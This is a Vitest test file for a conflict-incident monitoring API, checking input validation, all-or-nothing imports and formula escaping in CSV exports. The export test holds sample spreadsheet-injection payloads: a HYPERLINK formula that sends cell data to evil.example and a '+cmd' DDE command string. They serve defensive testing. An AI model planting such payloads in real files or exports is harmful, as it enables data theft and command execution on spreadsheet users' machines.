import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../src/domain/monitoring/csv.ts';
import { HXL_COLUMNS } from '../src/domain/monitoring/open-formats.ts';
import { importIncidents } from '../src/use-cases/monitoring/import-incidents.ts';
import { build, call, world, type World } from './support/world.ts';

const incident = (o: Record<string, unknown> = {}) => ({
  date: { start: '2014-11-20', end: '2014-11-20', precision: 'day' },
  place: { lat: 48.0159, lon: 37.8028, precision: 'exact', name: 'Donetsk', admin1: 'Donetska' },
  actors: [],
  casualties: { killed: { low: 1, best: 1, high: 1 } },
  sources: [],
  ...o,
});

/** An HXL file (header, tag row, then one row per incident from line 3) as the export writes it. */
function hxlFile(rows: Record<string, string>[]): string {
  const names = HXL_COLUMNS.map((c) => c[0]);
  const line = (r: Record<string, string>) => names.map((n) => r[n] ?? '').join(',');
  return [names.join(','), HXL_COLUMNS.map((c) => c[1]).join(','), ...rows.map(line)].join('\n') + '\n';
}
const hxlRow = (k: number, o: Record<string, string> = {}) => ({
  id: `imp-${k}`,
  date_start: '2014-10-01',
  date_end: '2014-10-01',
  date_precision: 'day',
  latitude: String(48 + k / 10_000),
  longitude: '37.8',
  geo_precision: 'exact',
  admin1: 'Donetska',
  killed_low: '0',
  killed_best: '1',
  killed_high: '2',
  ...o,
});

describe(`hostile values are refused with a reason and the field, and never stored altered (${process.env.PARLEY_TEST_ENGINE})`, () => {
  let w: World;
  let src: string;
  beforeAll(async () => {
    w = await world();
    src = (await call(w, 'POST', '/sources', 'mediator', build.source())).json.id;
  }, 300_000);

  const size = async () => (await w.rt.log.head(w.pid))?.size ?? 0;
  const raw = (path: string, body: string | Buffer, who: 'mediator' | 'anonymous' = 'mediator', type = 'application/json') =>
    w.app.inject({
      method: 'POST',
      url: path.startsWith('/api') ? path : w.url(path),
      headers: { ...w.headers[who], 'content-type': type },
      payload: typeof body === 'string' ? Buffer.from(body) : body,
    });
  const figure = (value: string) => `{"qualifier":"about","value":${value},"unit":"people","measure":"killed","asOf":"2014-11-18","sourceId":"${src}"}`;
  const source = (title: string) => `{"title":${title},"publisher":"Agency","date":"2014-11-21","language":"en","kind":"article"}`;

  const cases: [string, string, () => string | Buffer, number, string, string | undefined][] = [
    ['a NUL character', '/sources', () => source('"a\\u0000b"'), 400, 'nul_character', 'title'],
    ['a lone surrogate', '/sources', () => source('"\\ud800x"'), 400, 'lone_surrogate', 'title'],
    ['a lone low surrogate', '/sources', () => source('"x\\udc00"'), 400, 'lone_surrogate', 'title'],
    [
      'invalid UTF-8 bytes',
      '/sources',
      () => Buffer.concat([Buffer.from(source('"')).subarray(0, 10), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
      400,
      'invalid_utf8',
      undefined,
    ],
    [
      'an encoded surrogate (CESU-8)',
      '/sources',
      () => Buffer.concat([Buffer.from('{"title":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]),
      400,
      'invalid_utf8',
      undefined,
    ],
    ['a number beyond double range', '/figures', () => figure('1e309'), 400, 'number_out_of_range', 'value'],
    ['a number that underflows to zero', '/figures', () => figure('1e-400'), 400, 'number_out_of_range', 'value'],
    ['an integer beyond 2^53', '/figures', () => figure('9007199254740993'), 400, 'number_out_of_range', 'value'],
    ['more digits than a double keeps', '/figures', () => figure('4300.0000000000000001'), 400, 'number_out_of_range', 'value'],
    [
      'a count beyond int4',
      '/incidents',
      () => JSON.stringify(incident({ casualties: { killed: { low: 1, best: 2147483648, high: 2147483648 } } })),
      400,
      'invalid_maximum',
      'casualties/killed/best',
    ],
    ['a version beyond int4', '/meetings/x/transitions', () => '{"to":"scheduled","reason":"r","version":2147483648}', 400, 'invalid_maximum', 'version'],
    ['an impossible UTC offset', '/sources', () => source('"x"').replace('"2014-11-21"', '"2014-11-21T10:00:00+25:00"'), 400, 'invalid_offset', 'date'],
    [
      'a date-time offset no place uses',
      '/observations',
      () =>
        JSON.stringify({
          method: 'heard',
          kind: 'explosion',
          count: 1,
          approximate: false,
          observer: { lat: 48, lon: 37 },
          time: { from: '2014-11-20T10:00:00+23:00' },
        }),
      400,
      'invalid_format',
      'time/from',
    ],
    [
      'a leap second Date cannot read',
      '/observations',
      () =>
        JSON.stringify({
          method: 'heard',
          kind: 'explosion',
          count: 1,
          approximate: false,
          observer: { lat: 48, lon: 37 },
          time: { from: '2014-12-31T23:59:60Z' },
        }),
      400,
      'invalid_format',
      'time/from',
    ],
    ['nesting 65 deep', '/sources', () => source(`${'['.repeat(65)}${']'.repeat(65)}`), 400, 'too_deep', undefined],
    ['nesting 10,000 deep into the import', '/incidents/import', () => `${'['.repeat(10_000)}${']'.repeat(10_000)}`, 400, 'too_deep', undefined],
    ['a duplicate key', '/sources', () => source('"a"').replace('"publisher"', '"title":"b","publisher"'), 400, 'duplicate_key', 'title'],
    ['a body over the limit', '/sources', () => source(`"${'x'.repeat(300 * 1024)}"`), 413, 'body_too_large', undefined],
    ['JSON in another charset', '/sources', () => source('"x"'), 415, 'unsupported_charset', undefined],
  ];

  it.each(cases)('refuses %s', async (name, path, body, status, reason, field) => {
    const before = await size();
    const r = await raw(path, body(), 'mediator', name === 'JSON in another charset' ? 'application/json; charset=iso-8859-1' : 'application/json');
    expect(r.statusCode, r.body.slice(0, 300)).toBe(status);
    const e = r.json().error;
    expect(e.reason).toBe(reason);
    if (field) expect(e.details.field).toBe(field);
    expect(e.message.length).toBeGreaterThan(10);
    expect(await size()).toBe(before);
  });

  it('stores what it accepts exactly as sent', async () => {
    const title = 'Ceasefire 😀 “quoted” \u2028 ∑ \\ /';
    const r = await raw('/sources', source(JSON.stringify(title)));
    expect(r.statusCode).toBe(201);
    const f = await raw('/figures', figure('0.30000000000000004'));
    expect(f.statusCode).toBe(201);
    expect((await call(w, 'GET', `/sources/${r.json().id}`, 'mediator')).json.title).toBe(title);
    expect((await call(w, 'GET', `/figures/${f.json().id}`, 'mediator')).json.value).toBe(0.30000000000000004);
  });

  it('refuses a NUL in the anonymous sign-in, in the query and in a path parameter without a 500', async () => {
    const login = await raw('/api/auth/login', '{"username":"a\\u0000","password":"x"}', 'anonymous');
    expect(login.statusCode).toBe(400);
    expect(login.json().error.reason).toBe('nul_character');
    const q = await call(w, 'GET', '/sources?status=a%00', 'anonymous');
    expect([q.status, q.json.error.reason, q.json.error.details.field]).toEqual([400, 'nul_character', 'status']);
    expect((await call(w, 'GET', '/sources/a%00b', 'anonymous')).json.error.reason).toBe('nul_character');
    // An impossible day in an export's query is refused by the schema, never by the database.
    const day = await call(w, 'GET', '/incidents.acled.csv?from=2014-02-30', 'anonymous');
    expect([day.status, day.json.error.reason, day.json.error.details.field]).toEqual([400, 'invalid_format', 'from']);
  });

  it('answers framework errors in the error shape', async () => {
    const shape = (r: { status: number; json: { error: { code: string; reason: string } } }, status: number, reason: string) =>
      expect([r.status, r.json.error.reason]).toEqual([status, reason]);
    shape(await call(w, 'GET', `/api/processes/${w.pid}/sources/%ZZ`, 'anonymous'), 400, 'bad_url');
    // A parameter longer than the router's maxParamLength is refused in the error shape (as a client error).
    const long = await call(w, 'GET', `/sources/${'a'.repeat(300)}`, 'anonymous');
    expect(long.status).toBeGreaterThanOrEqual(400);
    expect(long.status).toBeLessThan(500);
    expect(long.json.error.reason).toMatch(/^(parameter_too_long|no_route)$/);
    shape(await call(w, 'GET', `/sources?after=${'z'.repeat(100_000)}`, 'anonymous'), 400, 'url_too_long');
    shape(await call(w, 'GET', '/api/nothing', 'anonymous'), 404, 'no_route');
    const plain = await raw('/sources', '<title/>', 'mediator', 'application/xml');
    expect([plain.statusCode, plain.json().error.code]).toEqual([415, 'unsupported_media_type']);
    // Over-large headers are refused by Node's HTTP parser before Fastify sees a request.
    await w.app.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { port } = w.app.server.address() as { port: number };
      const res = await fetch(`http://127.0.0.1:${port}/api/health`, { headers: { 'x-filler': 'x'.repeat(20_000) } });
      expect(res.status).toBe(431);
      expect((await res.json()).error).toMatchObject({ code: 'too_large', reason: 'headers_too_large' });
    } finally {
      await w.app.close();
    }
  });
});

describe(`bodies are read only for callers allowed to send them (${process.env.PARLEY_TEST_ENGINE})`, () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  }, 300_000);

  it('refuses an anonymous write with 401 before reading the body, and takes large files only on the import route', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024, 0x20);
    for (const type of ['application/json', 'text/csv']) {
      const started = Date.now();
      const r = await w.app.inject({ method: 'POST', url: w.url('/incidents/import'), headers: { 'content-type': type }, payload: big });
      expect([r.statusCode, r.json().error.reason]).toEqual([401, 'sign_in_required']);
      expect(Date.now() - started).toBeLessThan(2000);
    }
    const csv = await w.app.inject({
      method: 'POST',
      url: w.url('/incidents'),
      headers: { ...w.headers.mediator, 'content-type': 'text/csv' },
      payload: Buffer.alloc(300 * 1024, 0x41),
    });
    expect([csv.statusCode, csv.json().error.reason]).toEqual([413, 'body_too_large']);
    const file = hxlFile(Array.from({ length: 2000 }, (_, k) => hxlRow(k, { notes: 'n'.repeat(100) })));
    expect(file.length).toBeGreaterThan(256 * 1024);
    const ok = await w.app.inject({
      method: 'POST',
      url: w.url('/incidents/import'),
      headers: { ...w.headers.mediator, 'content-type': 'text/csv' },
      payload: Buffer.from(file),
    });
    expect(ok.statusCode, ok.body.slice(0, 300)).toBe(200);
    expect(ok.json().totals.created).toBe(2000);
  });
});

describe(`imports are all or nothing (${process.env.PARLEY_TEST_ENGINE})`, () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  }, 300_000);
  const size = async () => (await w.rt.log.head(w.pid))?.size ?? 0;
  const stored = async () => (await call(w, 'GET', '/incidents?limit=500', 'mediator')).json.items.length;
  const post = (body: string) =>
    w.app.inject({
      method: 'POST',
      url: w.url('/incidents/import'),
      headers: { ...w.headers.mediator, 'content-type': 'text/csv' },
      payload: Buffer.from(body),
    });

  it('refuses a row whose count no column holds (line 601) on its own, before anything is written', async () => {
    const rows = Array.from({ length: 650 }, (_, k) =>
      hxlRow(k, k === 598 ? { killed_best: '100000000000000000000', killed_high: '100000000000000000000' } : {}),
    );
    const r = await post(hxlFile(rows));
    expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
    const report = r.json();
    const bad = report.rows.find((x: { line: number }) => x.line === 601);
    expect(bad).toMatchObject({ status: 'refused', problems: [{ field: 'killed_best', reason: 'number_out_of_range' }] });
    expect(report.totals).toMatchObject({ refused: 1, created: 649 });
  });

  it('stores nothing when the write fails after 500 rows', async () => {
    const before = await size();
    const incidents = await stored();
    const file = new TextEncoder().encode(hxlFile(Array.from({ length: 700 }, (_, k) => hxlRow(k, { id: `half-${k}` }))));
    const failing = {
      batchSize: 250,
      onProgress: (done: number) => {
        if (done >= 500) throw new Error('the disk filled up');
      },
    };
    await expect(importIncidents(w.rt, w.actors.mediator, w.pid, file, failing)).rejects.toThrow('the disk filled up');
    expect(await size()).toBe(before);
    expect(await stored()).toBe(incidents);
    expect((await call(w, 'GET', '/incidents/half-0', 'mediator')).status).toBe(404);
  });

  it('refuses NUL bytes in a CSV file, and over-large or lossy figures in GeoJSON', async () => {
    const before = await size();
    const hxl = await post(hxlFile([hxlRow(9001, { notes: 'a\u0000b' }), hxlRow(9002)]));
    expect([hxl.statusCode, hxl.json().error.reason]).toEqual([400, 'unreadable_encoding']);
    expect(await size()).toBe(before);
    const feature = (id: string, best: number | string) =>
      `{"type":"Feature","id":"${id}","geometry":{"type":"Point","coordinates":[37.8,48]},"properties":{"date":{"start":"2014-10-02","end":"2014-10-02","precision":"day"},"place":{"precision":"exact"},"actors":[],"sources":[],"casualties":{"killed":{"low":0,"best":${best},"high":${best}}}}}`;
    const geo = (features: string[]) =>
      w.app.inject({
        method: 'POST',
        url: w.url('/incidents/import'),
        headers: { ...w.headers.mediator, 'content-type': 'application/geo+json' },
        payload: Buffer.from(`{"type":"FeatureCollection","features":[${features.join(',')}]}`),
      });
    const rows = (await geo([feature('geo-big', 3000000000), feature('geo-ok', 2)])).json().rows;
    expect(rows.map((x: { status: string }) => x.status)).toEqual(['refused', 'accepted']);
    const lossy = await geo([feature('geo-lossy', '9007199254740993')]);
    expect([lossy.statusCode, lossy.json().error.reason, lossy.json().error.details.field]).toEqual([
      400,
      'number_out_of_range',
      'file/features/0/properties/casualties/killed/best',
    ]);
  });
});

describe(`CSV exports escape formula cells (${process.env.PARLEY_TEST_ENGINE})`, () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  }, 300_000);

  it('escapes =, +, -, @, tab and CR at the start of text cells in every export, keeps negative numbers, and imports its export back unchanged', async () => {
    const hostile = { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', admin1: "+cmd|' /C calc'!A0", notes: '@SUM(1+1)', description: '\t-2+3' };
    const body = incident({
      id: 'csv-hostile',
      audience: 'public',
      date: { start: '2014-10-03', end: '2014-10-03', precision: 'day' },
      place: { lat: -33.5, lon: -70.25, precision: 'exact', name: hostile.name, admin1: hostile.admin1, description: hostile.description },
      notes: hostile.notes,
      actors: [{ role: 'side_a', name: '-Formations' }],
      sources: [{ publisher: '=cmd' }],
    });
    expect((await call(w, 'POST', '/incidents', 'mediator', body)).status).toBe(201);
    const exports = {
      hxl: (await call(w, 'GET', '/incidents.hxl.csv', 'mediator')).body,
      acled: (await call(w, 'GET', '/incidents.acled.csv', 'mediator')).body,
      ucdp: (await call(w, 'GET', '/incidents.csv', 'mediator')).body,
      daily: (await call(w, 'GET', '/reports/daily?date=2014-10-03&format=csv', 'mediator')).body,
    };
    for (const [name, text] of Object.entries(exports)) {
      expect(text, name).toContain("'+cmd|");
      // The cells as a spreadsheet sees them, before any unescaping: none may start a formula.
      const cells = text
        .split(/\r?\n/)
        .flatMap((line) => [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')));
      const formulas = cells.filter((c) => /^[=+\-@\t\r]./s.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
      expect(formulas, name).toEqual([]);
    }
    for (const name of ['hxl', 'acled', 'ucdp'] as const) expect(exports[name], name).toContain("'=HYPERLINK");
    expect(exports.hxl).toContain(',-33.5,-70.25,');
    expect(exports.daily).toContain("'+cmd|");
    const hxl = parseCsv(exports.hxl).records;
    expect(hxl[2]!.fields[HXL_COLUMNS.findIndex((c) => c[0] === 'location')]).toBe(hostile.name);
    // The import reads its own export back with the apostrophes removed (under a new id, beside the original).
    const again = Buffer.from(exports.hxl.replace('csv-hostile', 'csv-hostile-copy'));
    const r = await w.app.inject({
      method: 'POST',
      url: w.url('/incidents/import'),
      headers: { ...w.headers.mediator, 'content-type': 'text/csv' },
      payload: again,
    });
    expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
    const back = (await call(w, 'GET', '/incidents/csv-hostile-copy', 'mediator')).json;
    expect(back.place).toMatchObject({ name: hostile.name, admin1: hostile.admin1, lat: -33.5, lon: -70.25 });
    expect(back.notes).toBe(hostile.notes);
    expect(back.actors).toEqual([{ role: 'side_a', name: '-Formations' }]);
  }, 300_000);
});
